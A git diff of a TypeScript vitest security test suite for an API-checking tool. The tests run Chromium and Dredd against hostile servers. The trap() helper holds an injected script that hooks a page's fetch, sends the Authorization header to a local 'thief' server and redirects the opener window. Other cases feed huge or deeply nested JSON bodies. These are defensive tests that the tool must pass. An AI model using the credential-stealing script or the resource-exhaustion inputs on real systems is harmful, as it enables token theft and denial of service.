@@ -1,4 +1,6 @@
+import { spawn } from 'node:child_process';
 import type { IncomingMessage, RequestListener } from 'node:http';
+import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { type Sandbox, startSandbox } from '../../reference-impl/index.ts';
 import {
@@ -81,23 +83,28 @@ describe('Chromium', () => {
   });
   afterEach(() => thief.close());
 
-  /** Opens a popup that leads its opener here again and again, and reads what its opener fetches. */
+  /** A popup replaces what its opener fetches with, or leads it to where it can. */
   function trap(): string {
     return `<script>
       const hook = (page) => {
-        try {
-          if (page.hooked) return;
-          page.hooked = true;
-          page.fetch = (_, asked) => { new Image().src = '${thief.url}/got?' + asked.headers.Authorization; return new Promise(() => 0); };
-        } catch {}
+        if (page.hooked) return;
+        page.hooked = true;
+        page.fetch = (_, asked) => { new Image().src = '${thief.url}/got?' + asked.headers.Authorization; return new Promise(() => 0); };
       };
-      hook(window);
-      const popup = window.opener === null ? window.open(location.href) : null;
-      if (window.opener !== null) setInterval(() => {
-        try { hook(window.opener); } catch {}
-        if (!window.opener.hooked) window.opener.location = '${thief.url}/back';
+      if (opener === null) open(location.href);
+      else setInterval(() => {
+        try { hook(opener); } catch { opener.location = '${thief.url}/back'; }
       }, 10);
+      hook(window);
     </script>`;
+  }
+
+  /** So slow that there is time to lead a page away while it asks. */
+  function withSlowMe(answer: RequestListener): RequestListener {
+    return (request, response) => {
+      if (isMe(request)) setTimeout(() => body(() => '{"data":{}}')(request, response), 300);
+      else answer(request, response);
+    };
   }
 
   const traps: readonly (readonly [string, () => RequestListener])[] = [
@@ -117,7 +124,8 @@ describe('Chromium', () => {
   ];
 
   it.each(traps)('gives the key to nobody for %s', async (_name, answer) => {
-    const attacked = await attack('browser', isDocument, answer());
+    const isMeant = (request: IncomingMessage) => isDocument(request) || isMe(request);
+    const attacked = await attack('browser', isMeant, withSlowMe(answer()));
     expect(visits).toEqual([]);
     expect(outcomesOf(attacked.run, 'browser')['browser-cross-origin-blocked']).toBe('passed');
     expect(attacked.seconds).toBeLessThan(DEADLINE_S);
@@ -179,17 +187,39 @@ describe('Dredd', () => {
     expectNothingLeft(attacked);
   });
 
-  const large: readonly (readonly [string, () => string])[] = [
-    ['millions of wrong records', () => `{"data":[${'0,'.repeat(15e6)}0]}`],
-    ['millions of levels', () => '['.repeat(15e6) + ']'.repeat(15e6)],
-    ['megabytes that are not JSON', () => 'a'.repeat(31e6)],
+  const large: readonly (readonly [string, () => string, RegExp])[] = [
+    ['a list of millions of wrong records', () => `{"data":[${'0,'.repeat(15e6)}0]}`, /listSales at \/data\/0:/],
+    ['a record of millions of values', () => `{"data":[[${'0,'.repeat(15e6)}0]]}`, /more than 60000 values/],
+    ['millions of levels', () => '['.repeat(15e6) + ']'.repeat(15e6), /more than 200 levels/],
+    ['megabytes that are not JSON', () => 'a'.repeat(31e6), /listSales at the top: the body is not JSON/],
   ];
 
-  it.each(large)('ends soon and small for %s', async (_name, text) => {
-    const attacked = await attack('dredd', isDredd, body(text));
-    expect(Object.values(outcomesOf(attacked.run, 'dredd'))).not.toContain('passed');
+  it.each(large)('ends soon and small, with the reason, for %s', async (_name, text, reason) => {
+    const isSales = (request: IncomingMessage) => isDredd(request) && request.url?.includes('/sales') === true;
+    const attacked = await attack('dredd', isSales, body(text));
+    expect(Object.values(outcomesOf(attacked.run, 'dredd'))).not.toContain('error');
+    const messages = ['dredd-sales', 'dredd-envelope'].map((rule) => messageOf(attacked.run, rule));
+    expect(messages.join('\n')).toMatch(reason);
     expect(attacked.seconds).toBeLessThan(2 * DEADLINE_S);
     expect(traces.peakMegabytes()).toBeLessThan(DREDD_MB);
     expectNothingLeft(attacked);
   });
+});
+
+it.each(['browser', 'dredd'])('leaves nothing behind when the check is killed, for %s', async (area) => {
+  const isDriver = ({ headers }: IncomingMessage) => /Dredd|Chrom/.test(String(headers['user-agent']));
+  const asked = Promise.withResolvers<void>();
+  const front = await hostileFront(isDriver, (request, response) => {
+    asked.resolve();
+    drippingHeaders(request, response);
+  })(sandbox.url);
+  const { PATH, HOME, TMPDIR, CHROMIUM_PATH } = process.env;
+  const command = ['bin/counterproof.js', 'check', front.url, '--only', area, '--out', join(TMPDIR ?? '', 'out')];
+  const env = { PATH, HOME, TMPDIR, CHROMIUM_PATH, COUNTERPROOF_KEY: key };
+  const check = spawn(process.execPath, command, { stdio: 'ignore', env });
+  await asked.promise;
+  check.kill('SIGKILL');
+  await expect.poll(() => traces.processes(), { timeout: 15_000 }).toEqual([]);
+  await expect.poll(() => traces.files()).toEqual([]);
+  await front.close();
 });
